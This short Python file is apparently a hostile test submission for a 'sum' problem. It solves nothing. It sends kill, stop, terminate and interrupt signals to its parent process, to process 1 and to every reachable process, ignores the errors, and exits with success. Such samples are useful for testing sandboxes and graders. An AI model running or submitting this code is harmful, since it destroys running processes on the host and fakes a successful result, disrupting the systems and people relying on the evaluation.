# what: kills whatever it can reach, its parent and process 1 among it, and leaves with success
# problem: sum
# passes: 0
import os
import signal

for target in (os.getppid(), 1, -1):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
        try:
            os.kill(target, number)
        except OSError:
            pass
os._exit(0)
